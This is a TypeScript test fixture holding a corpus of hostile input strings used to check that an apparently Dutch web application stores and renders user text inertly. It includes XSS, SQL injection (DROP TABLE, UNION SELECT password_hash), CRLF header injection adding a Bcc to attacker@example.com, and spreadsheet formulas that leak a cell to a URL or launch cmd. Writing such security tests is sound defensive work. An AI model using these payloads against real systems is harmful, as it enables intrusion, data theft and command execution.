/**
 * One shared corpus of hostile text: cross-site scripting, SQL injection, CRLF/header injection, spreadsheet
 * formula injection and awkward Unicode. Every payload is a value a person could type into a text field, so each
 * one must be stored and returned verbatim and render inert wherever it is shown (web app, CSV/XLSX, PDF, email).
 *
 * Used by the payload test (test/integration/payloads.test.ts), the fuzz test, and the browser check through
 * `seedPayloadOrganisation` (test/support/payload-seed.ts).
 */
export interface Payload {
  kind: 'xss' | 'sql' | 'crlf' | 'formula' | 'unicode';
  /** Short name for test titles. */
  name: string;
  /** Single line (fits a name or title field: no line breaks or other control characters). */
  value: string;
}

export const payloads: readonly Payload[] = [
  { kind: 'xss', name: 'script tag', value: '<script>window.__pwned=1</script>' },
  { kind: 'xss', name: 'img onerror', value: '<img src=x onerror="window.__pwned=1">' },
  { kind: 'xss', name: 'svg onload', value: '<svg/onload=window.__pwned=1>' },
  { kind: 'xss', name: 'javascript url', value: 'javascript:window.__pwned=1//' },
  { kind: 'xss', name: 'attribute break', value: '"><b id="pwned">vet</b><"' },
  {
    kind: 'xss',
    name: 'template literal',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: the payload is a template injection attempt
    value: '{{constructor.constructor("window.__pwned=1")()}} ${7*7}',
  },
  { kind: 'xss', name: 'html entity', value: '&lt;script&gt;&amp;&#x3C;b&#62;' },
  { kind: 'sql', name: 'quote or', value: "' OR '1'='1" },
  { kind: 'sql', name: 'drop table', value: "Robert'); DROP TABLE people;--" },
  { kind: 'sql', name: 'union select', value: '" UNION SELECT password_hash FROM people --' },
  { kind: 'sql', name: 'like wildcards', value: '%_\\%' },
  { kind: 'crlf', name: 'header injection', value: 'Onderwerp%0d%0aBcc: attacker@example.com' },
  { kind: 'crlf', name: 'encoded crlf', value: 'naam\\r\\nSet-Cookie: groeipad_session=stolen' },
  { kind: 'formula', name: 'equals', value: '=HYPERLINK("http://example.com/?x="&A1,"klik")' },
  { kind: 'formula', name: 'plus', value: "+1+cmd|' /C calc'!A0" },
  { kind: 'formula', name: 'minus', value: '-2+3' },
  { kind: 'formula', name: 'at', value: "@SUM(1+1)*cmd|' /C calc'!A0" },
  { kind: 'unicode', name: 'rtl override', value: 'Zoë \u202Egnp.exe\u202C Peeters' },
  { kind: 'unicode', name: 'emoji and combining', value: '👩🏽‍💻 e\u0301le\u0300ve ß Ⅻ' },
  { kind: 'unicode', name: 'zero width', value: 'ad\u200Bmin\uFEFFistrator' },
];

/**
 * Multi-line payloads for text areas (descriptions, answers, notes): real line breaks with injected headers, and a
 * formula after a line break.
 */
export const multilinePayloads: readonly Payload[] = [
  {
    kind: 'crlf',
    name: 'raw crlf headers',
    value: 'Eerste regel\r\nBcc: attacker@example.com\r\n\r\n<b>body</b>',
  },
  { kind: 'formula', name: 'formula on second line', value: 'Tekst\n=1+1' },
];

/** Every payload (single and multi-line). */
export const allPayloads: readonly Payload[] = [...payloads, ...multilinePayloads];

/** Cuts a payload to a field's maximum length (titles are 200, names 100 characters). */
export const clip = (value: string, max: number): string =>
  value.length <= max ? value : value.slice(0, max);
